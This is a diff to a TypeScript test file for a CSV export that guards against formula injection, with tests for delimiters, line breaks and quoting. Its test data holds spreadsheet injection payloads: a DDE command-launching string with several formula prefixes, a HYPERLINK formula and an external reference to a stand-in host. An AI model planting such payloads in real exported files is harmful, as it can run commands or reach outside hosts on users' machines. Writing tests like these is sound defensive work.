@@ -67,6 +67,44 @@ test('STAFF-19 a number stays a number, below zero as well, with a decimal comma
   expect(csvText([[-1.5, -2, 0, 40.125]])).toBe('-1,5;-2;0;40,125\r\n')
 })
 
+/** Cells as a spreadsheet finds them that parts by another sign: a quotation mark inside a cell does not begin one. */
+const cellsApartBy = (sign: string, text: string) =>
+  text
+    .split(/\r\n|\r|\n/)
+    .flatMap((line) => papaparse.parse<string[]>(line, { delimiter: sign }).data[0] ?? [])
+
+const DDE = "cmd|'/C calc'!A0"
+const CALLS = [
+  `=${DDE}`,
+  `+${DDE}`,
+  `-${DDE}`,
+  `@${DDE}`,
+  '=HYPERLINK(A1)',
+  "='//zle.example/x'!A1",
+  `\uff1d${DDE}`,
+]
+
+test.each(
+  [',', ', ', ',\u200b', ',"', '\t', '\n', '\r\n', '\r'].flatMap((before) =>
+    CALLS.map((call) => `Proszę o telefon${before}${call}`),
+  ),
+)('STAFF-19 in %j no formula begins behind a comma, a tab or a line break', (text) => {
+  const file = csvText([['first', text, 'last']])
+  for (const cell of [',', '\t', ';'].flatMap((sign) => cellsApartBy(sign, file)))
+    expect(cell).not.toMatch(/^["\s\p{C}]*[=+\-@\uff1d]/u)
+  expect(csvCellText(cellOf(text) ?? '')).toBe(text)
+})
+
+test.each([
+  'lodówka\n- pralka\n- 2 × telewizor',
+  'portiernia, +48 600 100 200',
+  'cena 5,- zł',
+  'brama 3, kod = 12',
+  'a,b',
+])('STAFF-19 %j keeps its words, between quotation marks', (text) => {
+  expect(csvText([[text]])).toBe(`"${text}"\r\n`)
+})
+
 const anyText = fc.oneof(
   fc.string({ unit: 'binary' }),
   fc
@@ -87,6 +125,9 @@ const anyText = fc.oneof(
         '"',
         '4',
         '\uff1d',
+        ',',
+        '(',
+        '|',
       ),
     )
     .map((signs) => signs.join('')),
